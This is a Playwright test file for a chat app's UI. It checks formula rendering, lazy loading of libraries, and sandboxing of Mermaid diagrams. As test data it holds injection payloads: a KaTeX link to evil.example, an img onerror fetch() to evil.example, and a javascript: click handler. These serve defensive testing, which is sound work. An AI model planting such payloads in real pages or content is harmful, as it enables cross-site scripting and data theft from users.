/** Formulas and diagrams in replies: what they show, load and can reach. */
import { expect, test } from "bun:test";
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { createHome, type Daemon, startDaemon, until } from "../journeys/daemon.ts";
import { configFor, createModel, type Model } from "../journeys/model.ts";
import { judge } from "./axe.ts";
import { inBrowser, welcome } from "./browser.ts";
import { expectFit } from "./phone.ts";

/** Set to a folder, the tests write their screenshots there. */
const SHOTS = process.env["HEARTH_SCREENSHOTS"];

const examine = async (page: Page, name: string): Promise<void> => {
  for (const [width, colorScheme] of [
    [1440, "light"],
    [390, "dark"],
  ] as const) {
    await page.setViewportSize({ width, height: 900 });
    await page.emulateMedia({ colorScheme });
    await expectFit(page);
    expect({ name, width, violations: await judge(page) }).toEqual({ name, width, violations: [] });
    if (SHOTS === undefined) continue;
    mkdirSync(SHOTS, { recursive: true });
    await page.screenshot({ path: join(SHOTS, `${name}-${width}.png`) });
  }
};

const startWith = async (home: string, model: Model, reply: string): Promise<Daemon> => {
  model.answer = () => [reply];
  writeFileSync(join(home, "hearth.toml"), configFor(model.baseUrl));
  const daemon = await startDaemon(home, { TEST_KEY: "k" });
  await welcome(daemon);
  await daemon.hearth("chat", "-m", "go on");
  return daemon;
};

/** The files of the UI that the page has loaded. */
const loaded = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => new URL(name).pathname));

const MATH = String.raw`The roots of $ax^2 + bx + c = 0$ cost $5 and $6 less:

$$
x_{1,2} = \frac{-b \pm \sqrt{b^2 - 4ac}}{2a}, \quad \sum_{k=1}^{n} k = \frac{n(n+1)}{2}, \quad \int_{-\infty}^{\infty} e^{-t^2}\,dt = \sqrt{\pi}
$$

An error: $\frac{1$ and $\href{https://evil.example}{x}$.`;

inBrowser("formulas and diagrams", ({ visit }) => {
  test("a formula is drawn and readable by screen readers, an error shows its source, and money stays text", async () => {
    using home = createHome();
    await using model = createModel();
    await using daemon = await startWith(home.folder, model, MATH);
    await using visited = await visit(daemon, { path: "/ui/rooms/main", reducedMotion: "reduce" });
    const { page } = visited;
    const reply = page.getByRole("article").filter({ hasText: "The roots of" });
    await reply.locator(".katex-display math").waitFor({ state: "attached" });
    expect(await reply.locator("math annotation").first().textContent()).toBe("ax^2 + bx + c = 0");
    expect(await reply.textContent()).toContain("cost $5 and $6 less");
    await reply.getByText(String.raw`\frac{1`).waitFor();
    expect(await reply.locator("a[href*=evil]").count()).toBe(0);
    await until(() => page.evaluate(() => document.fonts.check("16px KaTeX_Main")));
    await examine(page, "math");
    expect(visited.complaints).toEqual([]);
  });

  test("a page without formulas and diagrams loads nothing of their libraries", async () => {
    using home = createHome();
    await using model = createModel();
    await using daemon = await startWith(home.folder, model, "It costs $5, and `$x$` is code.");
    await using visited = await visit(daemon, { path: "/ui/rooms/main", reducedMotion: "reduce" });
    await visited.page.getByText("It costs $5").waitFor();
    const files = await loaded(visited.page);
    expect(files.filter((path) => /formula|diagram|katex/i.test(path))).toEqual([]);
  });

  test("A77: a diagram is drawn in a frame without origin and network, its source can be read, and an error shows it", async () => {
    using home = createHome();
    await using model = createModel();
    const diagram = "graph LR\n  A[Order] --> B{In stock?}\n  B -- yes --> C[Ship]\n  B -- no --> D[Wait]";
    const hostile =
      'graph TD\n  A["<img src=x onerror=fetch(`https://evil.example/`)>"] --> B\n  click A "javascript:alert(1)"';
    const reply = [
      "```mermaid",
      diagram,
      "```",
      "",
      "```mermaid",
      "graph LR\n A --",
      "```",
      "",
      "```mermaid",
      hostile,
      "```",
    ];
    await using daemon = await startWith(home.folder, model, reply.join("\n"));
    await using visited = await visit(daemon, { path: "/ui/rooms/main", reducedMotion: "reduce" });
    const { page } = visited;
    const frames = page.locator("iframe");
    await until(async () => (await frames.count()) === 2);
    expect(await frames.first().getAttribute("sandbox")).toBe("allow-scripts");
    const drawing = page.frameLocator("iframe").first();
    await drawing.getByText("In stock?").waitFor();
    await page.getByText("The diagram could not be drawn. This is its source.").waitFor();
    const { headers } = await fetch(`${daemon.url}/ui/diagram.html`);
    expect(headers.get("content-security-policy")).toStartWith("sandbox allow-scripts; default-src 'none'");

    // The frame has no origin, and cannot send anything.
    const inside = page.frames().find((frame) => frame.url().endsWith("/ui/diagram.html"));
    expect(await inside?.evaluate(() => origin)).toBe("null");
    const attempts = await inside?.evaluate(async (url) => {
      const tried = [
        fetch(`${url}/api/me`).then(
          () => "sent",
          () => "refused",
        ),
        new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve("sent");
          image.onerror = () => resolve("refused");
          image.src = `${url}/ui/icon.svg`;
        }),
        Promise.resolve()
          .then(() => parent.document.title)
          .then(
            () => "read",
            () => "refused",
          ),
      ];
      return Promise.all(tried);
    }, daemon.url);
    expect(attempts).toEqual(["refused", "refused", "refused"]);

    await page.getByRole("button", { name: "Show source" }).first().click();
    await page.getByText("B -- yes --> C[Ship]").waitFor();
    await page.getByRole("button", { name: "Hide source" }).click();
    await examine(page, "diagram");
    // The attempts above are reported by the browser.
    expect(visited.complaints.filter((line) => line.includes("evil.example"))).toEqual([]);
  });
});
